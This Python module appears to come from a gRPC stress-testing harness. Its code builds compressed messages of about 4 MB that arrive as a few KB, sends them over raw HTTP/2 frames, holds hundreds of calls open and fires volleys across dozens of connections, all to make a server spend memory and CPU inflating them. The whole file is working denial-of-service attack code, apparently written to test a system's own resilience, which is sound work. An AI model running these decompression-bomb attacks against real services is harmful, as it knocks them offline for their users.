"""What one member can make of few bytes that it sends compressed, beside `attacks.py`.

4 KB become a message of 4 MB, the largest that is allowed. gRPC inflates it as soon as it is
complete and somebody waits for it, before code of the node sees it.
"""

from __future__ import annotations

import select
import struct
import time
import zlib
from collections.abc import Callable
from contextlib import suppress
from itertools import cycle

from attacks import SEVERAL, Attack
from frames import (
    DATA,
    END_HEADERS,
    END_STREAM,
    HEADERS,
    RST_STREAM,
    Connection,
    frame,
    message,
    request_headers,
)
from slow_attacks import WATCH
from workload import path

LARGEST = 4 * 1024 * 1024 - 1024
WINDOW_BITS = {"gzip": 31, "deflate": 15}
OPEN = 600
"""Calls that are open at once over all connections: as many as a caller may have."""

STREAMS = 16
"""Streams of a connection that get a compressed message in one moment: what it may send at first
has room for so many."""

VOLLEY_CONNECTIONS = 36
REST = 0.3
"""Seconds between the calls and these messages, and until the connections are closed."""


def compressed(content: bytes, encoding: str) -> bytes:
    """Returns a gRPC message that is sent compressed."""
    deflate = zlib.compressobj(9, zlib.DEFLATED, WINDOW_BITS[encoding])
    data = deflate.compress(content) + deflate.flush()
    return struct.pack(">BI", 1, len(data)) + data


def open_with(connection: Connection, method: str, encoding: str, body: bytes, flags: int) -> bytes:
    """Returns the frames of a call that says how its messages are compressed, and one message."""
    name, value = b"grpc-encoding", encoding.encode()
    header = b"\x00" + bytes([len(name)]) + name + bytes([len(value)]) + value
    block = request_headers(method, connection.server_name) + header
    stream = connection.next_stream()
    return frame(HEADERS, stream, block, END_HEADERS) + frame(DATA, stream, body, flags)


def calls(attack: Attack, until: float, method: str, content: bytes, connections: int = 1) -> int:
    """Makes calls with one compressed request, and another one for each that ends."""
    bodies = cycle([(encoding, compressed(content, encoding)) for encoding in WINDOW_BITS])
    held: dict[Connection, int] = {}
    sent = 0
    while time.monotonic() < until:
        with suppress(OSError):
            while len(held) < connections:
                connection = attack.connect()
                connection.await_settings()
                held[connection] = 0
        for connection in [*held]:
            try:
                encoding, body = next(bodies)
                if held[connection] < OPEN // connections and connection.window >= len(body):
                    connection.send(open_with(connection, method, encoding, body, END_STREAM))
                    connection.window -= len(body)
                    held[connection] += 1
                    sent += 1
                held[connection] -= _ended(connection)
            except OSError:
                del held[connection]
    return sent


def volleys(attack: Attack, until: float, connections: int) -> int:
    """Opens uploads with a small message each; then sends a compressed one on all at once."""
    bodies = [(encoding, compressed(bytes(LARGEST), encoding)) for encoding in WINDOW_BITS]
    sent = 0
    while time.monotonic() < until:
        with suppress(OSError):
            held = []
            for number in range(connections):
                encoding, body = bodies[number % len(bodies)]
                connection = attack.connect()
                connection.await_settings()
                small = message(b"x")
                opened = [
                    open_with(connection, path("Upload"), encoding, small, 0)
                    for _ in range(STREAMS)
                ]
                streams = range(1, 2 * STREAMS, 2)
                volley = b"".join(frame(DATA, stream, body) for stream in streams)
                connection.send(b"".join(opened))
                held.append((connection, volley))
            time.sleep(REST)
            for connection, volley in held:
                connection.send(volley)
                sent += STREAMS
            time.sleep(REST)
            for connection, _ in held:
                connection.close()
    return sent


def _ended(connection: Connection) -> int:
    """Reads what has arrived; returns how many calls have ended."""
    ended = 0
    while select.select([connection.socket], [], [], 0)[0]:
        for got in connection.receive():
            ended += got.kind == RST_STREAM or got.ends_stream
    return ended


KINDS: dict[str, Callable[[Attack, float], int]] = {
    "compressed requests": lambda a, until: calls(
        a, until, path("Sleep"), b" " * LARGEST + b"0.05"
    ),
    "compressed feeds": lambda a, until: calls(a, until, WATCH, bytes(LARGEST), SEVERAL),
    "compressed messages": lambda a, until: volleys(a, until, VOLLEY_CONNECTIONS),
    "compressed, one connection": lambda a, until: volleys(a, until, 1),
}
